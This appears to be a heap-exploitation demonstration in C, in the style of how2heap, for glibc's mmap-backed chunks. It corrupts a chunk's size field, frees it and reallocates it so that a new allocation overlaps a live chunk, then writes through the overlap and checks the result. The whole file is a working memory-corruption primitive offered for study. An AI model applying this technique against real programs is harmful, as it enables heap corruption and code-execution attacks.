/* The same for mappings of their own. */
#include <stdlib.h>
#include <stdio.h>
#include <assert.h>
#include <malloc.h>
int main(void) {
    malloc(0x10);
    long long *top_ptr = malloc(0x100000);
    long long *mmap_chunk_2 = malloc(0x100000);
    long long *mmap_chunk_3 = malloc(0x100000);
    mmap_chunk_3[-1] = (0xFFFFFFFFFD & mmap_chunk_3[-1]) + (0xFFFFFFFFFD & mmap_chunk_2[-1]) | 2;
    free(mmap_chunk_3);
    long long *overlapping_chunk = malloc(0x300000);
    int distance = mmap_chunk_2 - overlapping_chunk;
    printf("distance %x\n", distance);
    overlapping_chunk[distance] = 0x1122334455667788;
    assert(mmap_chunk_2[0] == overlapping_chunk[distance]);
    _exit(0);
}
